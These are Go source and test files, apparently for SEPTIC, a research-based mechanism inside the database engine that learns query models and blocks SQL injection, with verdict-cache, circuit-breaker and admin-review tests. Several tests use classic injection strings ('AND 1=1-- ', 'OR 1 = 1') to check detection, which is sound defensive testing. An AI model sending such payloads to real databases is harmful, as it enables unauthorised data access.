	attacked := "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0"
	for i := 0; i < 2; i++ {
		if _, err := db.Exec(attacked); err != nil {
			t.Fatalf("NN exec %d: %v", i, err)
		}
	}
	if hits := sep.CacheStats().Hits; hits == 0 {
		t.Fatal("attack text was not cached under NN — test is not exercising invalidation")
	}

	// YY: the cached NN verdict must not survive the config change.
	sep.SetConfig(DefaultConfig())
	if _, err := db.Exec(attacked); !errors.Is(err, engine.ErrQueryBlocked) {
		t.Fatalf("after SetConfig: err = %v, want ErrQueryBlocked", err)
	}
	if inv := sep.CacheStats().Invalidations; inv == 0 {
		t.Error("invalidations = 0, want > 0 after config change")
	}
}

// TestSetModeInvalidatesVerdicts: a mode flip bumps the config
// generation, so verdicts cached in the old mode are recomputed.
func TestSetModeInvalidatesVerdicts(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModeTraining})
	benign := fmt.Sprintf(ticketsLookup, "ID34FG", "1234")
	train(t, db, sep, []string{benign})
	sep.SetConfig(Config{Mode: ModeDetection, DetectSQLI: true, DetectStored: true})

	for i := 0; i < 2; i++ {
		if _, err := db.Exec(benign); err != nil {
			t.Fatalf("detection exec: %v", err)
		}
	}
	before := sep.CacheStats()
	if before.Hits == 0 {
		t.Fatal("benign verdict not cached")
	}
	sep.SetMode(ModePrevention)
	if _, err := db.Exec(benign); err != nil {
		t.Fatalf("after SetMode: %v", err)
	}
	after := sep.CacheStats()
	if after.Invalidations != before.Invalidations+1 {
		t.Errorf("invalidations = %d, want %d", after.Invalidations, before.Invalidations+1)
	}
}

// TestLearningInvalidatesVerdicts: incremental learning mutates the
// store, which bumps the store generation and orphans every cached
// verdict — learned knowledge changed, so everything is re-derived.
func TestLearningInvalidatesVerdicts(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModeTraining})
	benign := fmt.Sprintf(ticketsLookup, "ID34FG", "1234")
	train(t, db, sep, []string{benign})
	sep.SetConfig(DefaultConfig())

	gen := sep.Store().Generation()
	for i := 0; i < 2; i++ {
		if _, err := db.Exec(benign); err != nil {
			t.Fatalf("exec: %v", err)
		}
	}
	// A never-seen query learns incrementally: store generation moves.
	if _, err := db.Exec("SELECT name FROM users WHERE id = 1"); err != nil {
		t.Fatalf("incremental query: %v", err)
	}
	if now := sep.Store().Generation(); now == gen {
		t.Fatal("incremental learning did not bump the store generation")
	}
	before := sep.CacheStats().Invalidations
	if _, err := db.Exec(benign); err != nil {
		t.Fatalf("benign after learning: %v", err)
	}
	if after := sep.CacheStats().Invalidations; after != before+1 {
		t.Errorf("invalidations = %d, want %d", after, before+1)
	}
}

// TestDeleteInvalidatesVerdicts: deleting an identifier (admin rejecting
// a poisoned model) must prevent the cache from serving verdicts that
// retained the deleted record.
func TestDeleteInvalidatesVerdicts(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModeTraining})
	benign := fmt.Sprintf(ticketsLookup, "ID34FG", "1234")
	train(t, db, sep, []string{benign})
	sep.SetConfig(Config{Mode: ModePrevention, DetectSQLI: true, DetectStored: true})

	for i := 0; i < 2; i++ {
		if _, err := db.Exec(benign); err != nil {
			t.Fatalf("exec: %v", err)
		}
	}
	for _, id := range sep.Store().IDs() {
		sep.Store().Delete(id)
	}
	before := sep.CacheStats().Invalidations
	// The store is empty and learning is off: the query now executes
	// unchecked — but via a fresh pipeline run, not the stale verdict.
	if _, err := db.Exec(benign); err != nil {
		t.Fatalf("after delete: %v", err)
	}
	if after := sep.CacheStats().Invalidations; after <= before {
		t.Errorf("invalidations = %d, want > %d", after, before)
	}
}

// TestVerdictCacheBounded: the cache never exceeds its capacity under a
// flood of distinct texts, and evictions are accounted.
func TestVerdictCacheBounded(t *testing.T) {
	const capacity = 64
	sep := New(DefaultConfig(), WithVerdictCacheCapacity(capacity))
	db := engine.New(engine.WithQueryHook(sep), engine.WithParseCacheCapacity(capacity))
	if _, err := db.Exec("CREATE TABLE t (id INT, v TEXT)"); err != nil {
		t.Fatal(err)
	}
	sep.SetConfig(Config{Mode: ModePrevention, IncrementalLearning: false})
	for i := 0; i < capacity*10; i++ {
		q := fmt.Sprintf("SELECT v FROM t WHERE id = %d", i)
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("exec %d: %v", i, err)
		}
	}
	cs := sep.CacheStats()
	if cs.Entries > capacity {
		t.Errorf("entries = %d, want <= %d", cs.Entries, capacity)
	}
	if cs.Evictions == 0 {
		t.Error("evictions = 0, want > 0 under flood")
	}
}

// TestVerdictCacheConcurrentChurn runs readers on trained queries while
// a learner keeps mutating the store and a flipper toggles the mode —
// the -race configuration for the cache. Benign trained queries must
// never be blocked, whatever interleaving occurs.
func TestVerdictCacheConcurrentChurn(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModeTraining})
	benign := []string{
		fmt.Sprintf(ticketsLookup, "ID34FG", "1234"),
		"SELECT passwd FROM users WHERE name = 'admin'",
		"SELECT body FROM comments WHERE author = 'alice'",
	}
	train(t, db, sep, benign)
	sep.SetConfig(DefaultConfig())

	const iters = 300
	var wg sync.WaitGroup
	for r := 0; r < 4; r++ {
		wg.Add(1)
		go func(r int) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				q := benign[(r+i)%len(benign)]
				if _, err := db.Exec(q); err != nil {
					t.Errorf("reader %d iter %d: benign %q blocked: %v", r, i, q, err)
					return
				}
			}
		}(r)
	}
	wg.Add(1)
	go func() { // learner: novel queries keep bumping the store generation
		defer wg.Done()
		for i := 0; i < iters; i++ {
			q := fmt.Sprintf("SELECT id FROM users WHERE id = %d", i)
			_, _ = db.Exec(q)
		}
	}()
	wg.Add(1)
	go func() { // flipper: config generation churn
		defer wg.Done()
		for i := 0; i < iters/10; i++ {
			sep.SetMode(ModeDetection)
			sep.SetMode(ModePrevention)
		}
	}()
	wg.Wait()
}
