package core

import (
	"errors"
	"sync"
	"testing"
	"time"

	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/faultinject"
	"github.com/septic-db/septic/internal/overload"
)

// brownoutGuard trains one benign SELECT skeleton, switches to
// prevention, warms the verdict cache with it, and arms a fast-tripping
// detection breaker on the default domain.
func brownoutGuard(t *testing.T, failOpen bool) (*Septic, *Domain, *engine.DB) {
	t.Helper()
	guard := New(Config{Mode: ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("SELECT id FROM t WHERE id = 1"); err != nil {
		t.Fatal(err)
	}
	guard.SetConfig(Config{Mode: ModePrevention, DetectSQLI: true, FailOpen: failOpen})
	d, ok := guard.Domain(DefaultDomain)
	if !ok {
		t.Fatal("no default domain")
	}
	d.SetOverload(overload.NewControls(nil, overload.NewBreaker(overload.BreakerOptions{
		Window:      time.Second,
		Buckets:     4,
		FailureRate: 0.5,
		MinSamples:  3,
		Cooldown:    50 * time.Millisecond,
	})))
	// Warm the verdict cache: the trained skeleton's benign verdict.
	if _, err := db.Exec("SELECT id FROM t WHERE id = 1"); err != nil {
		t.Fatal(err)
	}
	return guard, d, db
}

// tripBrownoutBreaker panics the detector (armed until t.Cleanup) and
// drives guard faults through cache misses until the breaker opens.
func tripBrownoutBreaker(t *testing.T, d *Domain, db *engine.DB) {
	t.Helper()
	faultinject.Arm(func(site string) {
		if site == faultinject.SiteCoreDetect {
			panic("overload test: detector down")
		}
	})
	t.Cleanup(faultinject.Disarm)
	// Each exec misses the cache (contained faults are never cached),
	// faults in detection, and books one breaker failure.
	for i := 0; i < 3; i++ {
		_, _ = db.Exec("SELECT id FROM t WHERE id = 1 OR 1 = 1")
	}
	if got := d.Overload().Breaker.State(); got != overload.Open {
		t.Fatalf("breaker %v after %d faults, want open", got, 3)
	}
}

func TestBrownoutFailClosedBlocksMissesServesHits(t *testing.T) {
	guard, d, db := brownoutGuard(t, false)
	tripBrownoutBreaker(t, d, db)
	faultsAtTrip := guard.Stats().GuardFaults

	// Brownout, fail-closed: a cache miss is refused without running the
	// (still faulted) pipeline — GuardFaults must not grow.
	_, err := db.Exec("SELECT id FROM t WHERE id = 2 OR 1 = 1")
	if !errors.Is(err, engine.ErrQueryBlocked) {
		t.Fatalf("brownout miss: err = %v, want ErrQueryBlocked", err)
	}
	if got := guard.Stats().GuardFaults; got != faultsAtTrip {
		t.Errorf("brownout ran the faulted pipeline: GuardFaults %d -> %d", faultsAtTrip, got)
	}
	// The cached benign verdict keeps being served during the brownout.
	if _, err := db.Exec("SELECT id FROM t WHERE id = 1"); err != nil {
		t.Fatalf("cached verdict refused during brownout: %v", err)
	}
	if got := d.CacheStats().Brownouts; got == 0 {
		t.Error("brownout outcome not counted")
	}
	if got := d.Stats().BreakerTrips; got != 1 {
		t.Errorf("BreakerTrips = %d, want 1", got)
	}

	// Recovery: the detector heals, the cooldown elapses, and the
	// half-open probe (a real pipeline run) closes the breaker.
	faultinject.Disarm()
	time.Sleep(60 * time.Millisecond)
	// Invalidate the cache so the probe is a genuine miss.
	guard.SetConfig(Config{Mode: ModePrevention, DetectSQLI: true})
	if _, err := db.Exec("SELECT id FROM t WHERE id = 1"); err != nil {
		t.Fatalf("half-open probe failed: %v", err)
	}
	if got := d.Overload().Breaker.State(); got != overload.Closed {
		t.Fatalf("breaker %v after successful probe, want closed", got)
	}
	if got := d.Stats().BreakerTrips; got != 1 {
		t.Errorf("BreakerTrips = %d after recovery, want 1", got)
	}
	// Brownout entry and recovery are operator events.
	var transitions int
	for _, e := range guard.Logger().Events() {
		if e.Kind == EventOverload {
			transitions++
		}
	}
	if transitions < 3 { // closed>open, open>half-open, half-open>closed
		t.Errorf("logged %d overload transitions, want >= 3", transitions)
	}
}

func TestBrownoutFailOpenAdmitsMisses(t *testing.T) {
	guard, d, db := brownoutGuard(t, true)
	tripBrownoutBreaker(t, d, db)
	faultsAtTrip := guard.Stats().GuardFaults

	// Brownout, fail-open: the miss is admitted undetected rather than
	// refused — availability over strictness, per the domain's policy.
	if _, err := db.Exec("SELECT id FROM t WHERE id = 2 OR 1 = 1"); err != nil {
		t.Fatalf("fail-open brownout must admit: %v", err)
	}
	if got := guard.Stats().GuardFaults; got != faultsAtTrip {
		t.Errorf("brownout ran the faulted pipeline: GuardFaults %d -> %d", faultsAtTrip, got)
	}
	if got := d.CacheStats().Brownouts; got == 0 {
		t.Error("brownout outcome not counted")
	}
}

// TestChaosOverloadStatsTornRead hammers the overload counters from
// writer goroutines while readers snapshot Stats — the counters are
// independent atomics, so the snapshot must never tear under -race and
// the final tallies must be exact.
func TestChaosOverloadStatsTornRead(t *testing.T) {
	guard := New(Config{Mode: ModeTraining})
	d, ok := guard.Domain(DefaultDomain)
	if !ok {
		t.Fatal("no default domain")
	}
	ctl := overload.NewControls(
		overload.NewQuota(overload.QuotaSpec{MaxInFlight: 2}),
		overload.NewBreaker(overload.BreakerOptions{
			FailureRate: 0.99, MinSamples: 1 << 30, // never trips
		}))
	d.SetOverload(ctl)

	const writers, rounds = 8, 2000
	var wg sync.WaitGroup
	stop := make(chan struct{})
	for i := 0; i < 2; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				s := guard.Stats()
				if s.Shed < 0 || s.QuotaRejected < 0 || s.BreakerTrips < 0 {
					t.Error("negative counter in snapshot")
					return
				}
				_ = d.Stats()
				_ = d.CacheStats()
			}
		}()
	}
	var work sync.WaitGroup
	for i := 0; i < writers; i++ {
		work.Add(1)
		go func(seed int) {
			defer work.Done()
			q := ctl.Quota
			for n := 0; n < rounds; n++ {
				ctl.NoteShed()
				if ok, _ := q.Acquire(); ok {
					q.Release()
				}
				ctl.Breaker.RecordResult(seed%2 == 0, 0)
			}
		}(i)
	}
	work.Wait()
	close(stop)
	wg.Wait()

	if got := guard.Stats().Shed; got != writers*rounds {
		t.Errorf("Shed = %d, want %d", got, writers*rounds)
	}
	if got := ctl.Quota.InFlight(); got != 0 {
		t.Errorf("in-flight = %d after drain, want 0", got)
	}
	if got := guard.Stats().BreakerTrips; got != 0 {
		t.Errorf("BreakerTrips = %d, want 0", got)
	}
}
