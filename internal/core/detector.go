package core

import (
	"github.com/septic-db/septic/internal/qstruct"
	"github.com/septic-db/septic/internal/sqlparser"
)

// Detection is the attack detector's verdict for one query.
type Detection struct {
	// Attack is AttackNone when the query is clean.
	Attack AttackType
	// Step is the SQLI algorithm step that fired (SQLI attacks only).
	Step qstruct.CompareStep
	// Plugin names the confirming plugin (stored-injection only).
	Plugin string
	// Distance is the query's distance from its closest model (SQLI
	// attacks only): the node-count delta when Step is structural, the
	// index of the first mismatching node when syntactical.
	Distance int
	// Detail explains the finding for the event register.
	Detail string
}

// Detector is the "attack detector" module of Fig. 1. It performs the
// two kinds of discovery: SQLI detection by comparing the query
// structure against the learned query model, and stored-injection
// detection by running plugins over the values INSERT and UPDATE are
// about to write.
type Detector struct {
	plugins []Plugin
}

// NewDetector builds a detector with the given stored-injection plugin
// chain (DefaultPlugins for the paper's set).
func NewDetector(plugins []Plugin) *Detector {
	return &Detector{plugins: plugins}
}

// DetectSQLI compares the query structure with the learned query models
// using the two-step algorithm (§II-C3): (1) node counts must match;
// (2) each node's element type — and, for element nodes, element data —
// must match. The query conforms if ANY learned model for its
// identifier matches; otherwise the reported verdict comes from the
// closest model (a syntactical mismatch is closer than a structural
// one), which gives the event register the most precise explanation.
func (d *Detector) DetectSQLI(qs qstruct.Stack, models ModelView) (Detection, bool) {
	var best qstruct.Verdict
	haveBest := false
	for _, qm := range models.models {
		verdict := qstruct.Compare(qs, qm)
		if verdict.Match {
			return Detection{}, false
		}
		if !haveBest || (best.Step == qstruct.StepStructural && verdict.Step == qstruct.StepSyntactical) {
			best = verdict
			haveBest = true
		}
	}
	if !haveBest {
		// No models at all: nothing to compare against, not an attack.
		return Detection{}, false
	}
	return Detection{
		Attack:   AttackSQLI,
		Step:     best.Step,
		Distance: best.Distance,
		Detail:   best.Detail,
	}, true
}

// DetectStored runs the plugin chain over the string values the
// statement writes. Per the paper it applies to INSERT and UPDATE
// commands; other statements are never checked.
func (d *Detector) DetectStored(stmt sqlparser.Statement, qs qstruct.Stack) (Detection, bool) {
	switch stmt.(type) {
	case *sqlparser.InsertStmt, *sqlparser.UpdateStmt:
	default:
		return Detection{}, false
	}
	for _, value := range qs.StringData() {
		for _, p := range d.plugins {
			if !p.Filter(value) {
				continue // step 1: cheap character filter
			}
			if detail, attack := p.Validate(value); attack { // step 2
				return Detection{
					Attack: AttackStored,
					Plugin: p.Name(),
					Detail: detail,
				}, true
			}
		}
	}
	return Detection{}, false
}
