package core

import (
	"path/filepath"
	"testing"

	"github.com/septic-db/septic/internal/engine"
)

// TestPendingReviewWorkflow exercises the §II-E administrator loop:
// training-mode models need no review; incrementally learned ones appear
// in the pending list until approved or deleted.
func TestPendingReviewWorkflow(t *testing.T) {
	guard := New(Config{Mode: ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	if _, err := db.Exec("CREATE TABLE t (a TEXT, b INT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("SELECT b FROM t WHERE a = 'x'"); err != nil {
		t.Fatal(err)
	}
	if pending := guard.Store().PendingReview(); len(pending) != 0 {
		t.Fatalf("training-mode models need no review: %v", pending)
	}

	// Normal mode with incremental learning: a new shape lands on the
	// review list.
	guard.SetConfig(Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: true})
	if _, err := db.Exec("SELECT a FROM t WHERE b = 7"); err != nil {
		t.Fatal(err)
	}
	pending := guard.Store().PendingReview()
	if len(pending) != 1 {
		t.Fatalf("pending = %v, want 1 entry", pending)
	}

	// Approve: the entry leaves the list, the model keeps protecting.
	if !guard.Store().Approve(pending[0]) {
		t.Fatal("Approve failed")
	}
	if got := guard.Store().PendingReview(); len(got) != 0 {
		t.Fatalf("still pending after approval: %v", got)
	}
	if guard.Store().Approve("nonexistent") {
		t.Error("approving an unknown id should report false")
	}
}

func TestUsageReportOrdering(t *testing.T) {
	guard := New(Config{Mode: ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	if _, err := db.Exec("CREATE TABLE t (a INT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("SELECT a FROM t WHERE a = 1"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("DELETE FROM t WHERE a = 2"); err != nil {
		t.Fatal(err)
	}
	guard.SetConfig(Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	// Hit the SELECT three times, the DELETE once.
	for i := 0; i < 3; i++ {
		if _, err := db.Exec("SELECT a FROM t WHERE a = 5"); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := db.Exec("DELETE FROM t WHERE a = 9"); err != nil {
		t.Fatal(err)
	}
	report := guard.Store().UsageReport()
	if len(report) < 2 {
		t.Fatalf("report = %v", report)
	}
	if report[0].Hits < report[len(report)-1].Hits {
		t.Errorf("report not sorted by hits: %v", report)
	}
	var selHits int64
	for _, u := range report {
		if u.Models == 0 {
			t.Errorf("usage entry with zero models: %+v", u)
		}
		if u.Hits == 3 {
			selHits = u.Hits
		}
	}
	if selHits != 3 {
		t.Errorf("SELECT hits not counted: %v", report)
	}
}

func TestUsageSurvivesPersistence(t *testing.T) {
	path := filepath.Join(t.TempDir(), "models.json")
	s := NewStore()
	s.Put("hot", modelFor(t, "SELECT 1"), false)
	s.Put("cold", modelFor(t, "SELECT 2"), true)
	for i := 0; i < 5; i++ {
		s.Get("hot")
	}
	if err := s.Save(path); err != nil {
		t.Fatal(err)
	}
	loaded := NewStore()
	if err := loaded.Load(path); err != nil {
		t.Fatal(err)
	}
	report := loaded.UsageReport()
	if report[0].ID != "hot" || report[0].Hits != 5 {
		t.Errorf("hits lost across persistence: %v", report)
	}
	pending := loaded.PendingReview()
	if len(pending) != 1 || pending[0] != "cold" {
		t.Errorf("incremental flag lost: %v", pending)
	}
}
