package core

import (
	"fmt"
	"sync/atomic"

	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/qstruct"
)

// Mode is SEPTIC's operation mode (paper §II-E and Table I).
type Mode int

// Operation modes. Enums start at 1 so the zero value is invalid.
const (
	ModeInvalid Mode = iota
	// ModeTraining learns a query model for every distinct query and
	// executes everything; no detection runs.
	ModeTraining
	// ModeDetection finds and logs attacks but still executes the
	// queries (Table I row "Detection": log, no drop, exec).
	ModeDetection
	// ModePrevention finds, logs and blocks attacks: the query is
	// dropped and never executed.
	ModePrevention
)

// String names the mode the way the status display does.
func (m Mode) String() string {
	switch m {
	case ModeTraining:
		return "training"
	case ModeDetection:
		return "detection"
	case ModePrevention:
		return "prevention"
	default:
		return fmt.Sprintf("Mode(%d)", int(m))
	}
}

// Config selects SEPTIC's mode and which detections run. The four
// on/off combinations of DetectSQLI × DetectStored are the NN/YN/NY/YY
// configurations of the paper's performance study (§II-F, Fig. 5).
type Config struct {
	Mode Mode
	// DetectSQLI enables query-model comparison.
	DetectSQLI bool
	// DetectStored enables the stored-injection plugin chain.
	DetectStored bool
	// IncrementalLearning controls whether normal mode learns models for
	// unknown queries on the fly (paper default: yes, flagged for later
	// administrator review).
	IncrementalLearning bool
}

// DefaultConfig is prevention mode with both detections on (YY).
func DefaultConfig() Config {
	return Config{
		Mode:                ModePrevention,
		DetectSQLI:          true,
		DetectStored:        true,
		IncrementalLearning: true,
	}
}

// Stats aggregates SEPTIC's work counters.
type Stats struct {
	QueriesSeen    int64
	ModelsLearned  int64
	AttacksFound   int64
	AttacksBlocked int64
}

// Septic is the mechanism: it wires the QS&QM manager, ID generator,
// attack detector and logger together and implements engine.QueryHook so
// it can be installed inside the DBMS (engine.WithQueryHook). A single
// Septic may serve many concurrent sessions: the hot path reads the
// configuration through an atomic snapshot pointer and bumps lock-free
// counters, so concurrent sessions executing known-benign queries never
// serialize on a Septic-level lock.
type Septic struct {
	idgen    *IDGenerator
	store    *Store
	detector *Detector
	logger   *Logger

	// cfg is the current configuration, published as an immutable
	// snapshot: readers Load once per query and see a consistent Config;
	// writers install a fresh copy (SetMode/SetConfig).
	cfg atomic.Pointer[Config]

	queriesSeen    atomic.Int64
	modelsLearned  atomic.Int64
	attacksFound   atomic.Int64
	attacksBlocked atomic.Int64
}

// Interface compliance: Septic is an engine hook.
var _ engine.QueryHook = (*Septic)(nil)

// SepticOption configures construction.
type SepticOption func(*Septic)

// WithLogger installs a custom event register.
func WithLogger(l *Logger) SepticOption {
	return func(s *Septic) { s.logger = l }
}

// WithPlugins replaces the stored-injection plugin chain.
func WithPlugins(plugins []Plugin) SepticOption {
	return func(s *Septic) { s.detector = NewDetector(plugins) }
}

// WithStore installs a pre-loaded model store (e.g. read from disk).
func WithStore(store *Store) SepticOption {
	return func(s *Septic) { s.store = store }
}

// WithIDGenerator replaces the query-identifier generator.
func WithIDGenerator(g *IDGenerator) SepticOption {
	return func(s *Septic) { s.idgen = g }
}

// New builds a SEPTIC instance with the given configuration.
func New(cfg Config, opts ...SepticOption) *Septic {
	s := &Septic{
		idgen:    NewIDGenerator(),
		store:    NewStore(),
		detector: NewDetector(DefaultPlugins()),
		logger:   NewLogger(),
	}
	s.cfg.Store(&cfg)
	for _, o := range opts {
		o(s)
	}
	return s
}

// Mode returns the current operation mode.
func (s *Septic) Mode() Mode {
	return s.cfg.Load().Mode
}

// Config returns the current configuration.
func (s *Septic) Config() Config {
	return *s.cfg.Load()
}

// SetMode switches the operation mode (the demo "restarts MySQL" for
// this; here it is atomic). Other configuration fields are preserved
// even against a racing SetConfig.
func (s *Septic) SetMode(m Mode) {
	for {
		old := s.cfg.Load()
		next := *old
		next.Mode = m
		if s.cfg.CompareAndSwap(old, &next) {
			break
		}
	}
	s.logger.Log(Event{Kind: EventModeChanged, Detail: "mode set to " + m.String()})
}

// SetConfig replaces the whole configuration.
func (s *Septic) SetConfig(cfg Config) {
	s.cfg.Store(&cfg)
	s.logger.Log(Event{Kind: EventModeChanged, Detail: fmt.Sprintf(
		"config set: mode=%s sqli=%t stored=%t", cfg.Mode, cfg.DetectSQLI, cfg.DetectStored)})
}

// Store exposes the learned-model store (persistence, admin review).
func (s *Septic) Store() *Store { return s.store }

// Logger exposes the event register (the demo display reads it).
func (s *Septic) Logger() *Logger { return s.logger }

// Stats returns a snapshot of the work counters.
func (s *Septic) Stats() Stats {
	return Stats{
		QueriesSeen:    s.queriesSeen.Load(),
		ModelsLearned:  s.modelsLearned.Load(),
		AttacksFound:   s.attacksFound.Load(),
		AttacksBlocked: s.attacksBlocked.Load(),
	}
}

// BeforeExecute implements engine.QueryHook: the in-DBMS hook point.
// It resolves the query identifier and — depending on mode — learns the
// model or runs detection. The query structure is only materialized
// when something needs it (training, incremental learning, or an active
// detection): with both detections off the hook reduces to an ID
// computation and a store lookup, which is what makes the paper's NN
// configuration nearly free (§II-F: 0.5% overhead).
func (s *Septic) BeforeExecute(ctx *engine.HookContext) error {
	cfg := *s.cfg.Load()
	s.queriesSeen.Add(1)

	id := s.idgen.ID(ctx.Stmt, ctx.Comments)

	if cfg.Mode == ModeTraining {
		s.learn(id, ctx.Decoded, qstruct.BuildStack(ctx.Stmt), EventModelLearned)
		return nil
	}

	models, known := s.store.Get(id)
	if !known {
		if cfg.IncrementalLearning {
			// Incremental training (§II-E): learn and execute; the
			// administrator later reviews whether the new model came
			// from a benign query.
			s.learn(id, ctx.Decoded, qstruct.BuildStack(ctx.Stmt), EventNewQuery)
		}
		return nil
	}

	if !cfg.DetectSQLI && !cfg.DetectStored {
		return nil // NN: nothing to check
	}
	qs := qstruct.BuildStack(ctx.Stmt)
	if cfg.DetectSQLI {
		if det, attack := s.detector.DetectSQLI(qs, models); attack {
			return s.report(cfg, id, ctx.Decoded, det)
		}
	}
	if cfg.DetectStored {
		if det, attack := s.detector.DetectStored(ctx.Stmt, qs); attack {
			return s.report(cfg, id, ctx.Decoded, det)
		}
	}
	s.logger.Log(Event{Kind: EventQueryChecked, QueryID: id, Query: ctx.Decoded})
	return nil
}

// learn stores the query model if it is new and logs the event; a model
// already known for the ID is never re-added (demo phase C). Models
// learned outside training mode are flagged for administrator review.
func (s *Septic) learn(id, query string, qs qstruct.Stack, kind EventKind) {
	qm := qstruct.ModelOf(qs)
	if !s.store.Put(id, qm, kind == EventNewQuery) {
		return
	}
	s.modelsLearned.Add(1)
	s.logger.Log(Event{Kind: kind, QueryID: id, Query: query,
		Detail: fmt.Sprintf("model learned (%d nodes)", len(qm.Nodes))})
}

// report logs the attack and, in prevention mode, blocks the query.
func (s *Septic) report(cfg Config, id, query string, det Detection) error {
	s.attacksFound.Add(1)
	blocked := cfg.Mode == ModePrevention
	if blocked {
		s.attacksBlocked.Add(1)
	}

	kind := EventAttackDetected
	if blocked {
		kind = EventAttackBlocked
	}
	s.logger.Log(Event{
		Kind:    kind,
		QueryID: id,
		Query:   query,
		Attack:  det.Attack,
		Step:    det.Step,
		Plugin:  det.Plugin,
		Detail:  det.Detail,
	})
	if !blocked {
		return nil // detection mode: log only, let the query run
	}
	return fmt.Errorf("%w: septic %s (%s)", engine.ErrQueryBlocked, det.Attack, det.Detail)
}
