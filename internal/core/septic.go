package core

import (
	"fmt"
	"runtime/debug"
	"sync"
	"sync/atomic"
	"time"

	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/faultinject"
	"github.com/septic-db/septic/internal/obs"
	"github.com/septic-db/septic/internal/overload"
	"github.com/septic-db/septic/internal/qstruct"
)

// Mode is SEPTIC's operation mode (paper §II-E and Table I).
type Mode int

// Operation modes. Enums start at 1 so the zero value is invalid.
const (
	ModeInvalid Mode = iota
	// ModeTraining learns a query model for every distinct query and
	// executes everything; no detection runs.
	ModeTraining
	// ModeDetection finds and logs attacks but still executes the
	// queries (Table I row "Detection": log, no drop, exec).
	ModeDetection
	// ModePrevention finds, logs and blocks attacks: the query is
	// dropped and never executed.
	ModePrevention
)

// String names the mode the way the status display does.
func (m Mode) String() string {
	switch m {
	case ModeTraining:
		return "training"
	case ModeDetection:
		return "detection"
	case ModePrevention:
		return "prevention"
	default:
		return fmt.Sprintf("Mode(%d)", int(m))
	}
}

// Config selects SEPTIC's mode and which detections run. The four
// on/off combinations of DetectSQLI × DetectStored are the NN/YN/NY/YY
// configurations of the paper's performance study (§II-F, Fig. 5).
// Every protection domain carries its own Config, so one application
// can still be training while another already prevents.
type Config struct {
	Mode Mode
	// DetectSQLI enables query-model comparison.
	DetectSQLI bool
	// DetectStored enables the stored-injection plugin chain.
	DetectStored bool
	// IncrementalLearning controls whether normal mode learns models for
	// unknown queries on the fly (paper default: yes, flagged for later
	// administrator review).
	IncrementalLearning bool
	// FailOpen selects the policy applied when the protection path itself
	// faults (a panic in the parser, detector or a plugin). The default,
	// fail-closed, blocks the query: a broken guard must never silently
	// admit traffic, per the paper's §II security argument — SEPTIC is
	// only a defense if it cannot be knocked out of the request path.
	// Fail-open instead logs the incident and admits the query,
	// prioritizing availability over protection; it is an explicit
	// operator opt-in (septicd -fail-open, or per domain in the
	// -domains file).
	FailOpen bool
}

// DefaultConfig is prevention mode with both detections on (YY).
func DefaultConfig() Config {
	return Config{
		Mode:                ModePrevention,
		DetectSQLI:          true,
		DetectStored:        true,
		IncrementalLearning: true,
	}
}

// Stats aggregates SEPTIC's work counters.
type Stats struct {
	QueriesSeen    int64
	ModelsLearned  int64
	AttacksFound   int64
	AttacksBlocked int64
	// GuardFaults counts contained panics in the protection path.
	GuardFaults int64
	// Shed counts requests the shared admission controller rejected on
	// this domain's behalf (typed shed responses, wire layer).
	Shed int64
	// QuotaRejected counts requests the domain's own quota refused.
	QuotaRejected int64
	// BreakerTrips counts how many times the domain's detection breaker
	// opened (brownout entries).
	BreakerTrips int64
	// Cache reports verdict-cache effectiveness.
	Cache CacheStats
}

// add accumulates another snapshot (domain aggregation).
func (s *Stats) add(o Stats) {
	s.QueriesSeen += o.QueriesSeen
	s.ModelsLearned += o.ModelsLearned
	s.AttacksFound += o.AttacksFound
	s.AttacksBlocked += o.AttacksBlocked
	s.GuardFaults += o.GuardFaults
	s.Shed += o.Shed
	s.QuotaRejected += o.QuotaRejected
	s.BreakerTrips += o.BreakerTrips
	s.Cache.add(o.Cache)
}

// Septic is the mechanism: it wires the QS&QM manager, ID generator,
// attack detector and logger together and implements engine.QueryHook so
// it can be installed inside the DBMS (engine.WithQueryHook). A single
// Septic may serve many concurrent sessions AND many applications at
// once: tenant state (model store, mode, fail policy, verdict cache,
// counters) lives in protection domains (see Domain), and every query is
// routed to its domain by one map lookup off an atomic snapshot. A
// Septic with no registered domains is the single-tenant deployment:
// everything lands in the default domain and the legacy accessors
// (Mode, SetMode, Store, ...) behave exactly as before.
//
// The hot path reads the domain snapshot and the domain's configuration
// through atomic pointers and bumps lock-free counters, so concurrent
// sessions executing known-benign queries never serialize on a
// Septic-level lock — regardless of how many domains are registered.
type Septic struct {
	idgen    *IDGenerator
	detector *Detector
	logger   *Logger

	// store is the default domain's model store; kept as a field so the
	// construction options (WithStore) and the legacy single-tenant
	// gauges keep their shape.
	store *Store

	// def is the default protection domain: the routing fallback and the
	// target of the legacy single-tenant API.
	def *Domain

	// domains is the routing table, app name → Domain, published as an
	// immutable copy-on-write snapshot (never nil; empty until the first
	// RegisterDomain). Readers Load once per query.
	domains atomic.Pointer[map[string]*Domain]
	// regMu serializes registrations (writers only).
	regMu sync.Mutex

	verdictCap int

	// persist is the durable model store, nil until AttachPersistence.
	// Only read outside the hot path (RegisterDomain binds new domains to
	// it; septicd checkpoints through it at shutdown) — the hot path
	// reaches durability through each store's sink pointer instead.
	persist *Persistence

	// replica is true while this Septic is a read replica
	// (AttachReplicaSource): training and incremental-learning writes are
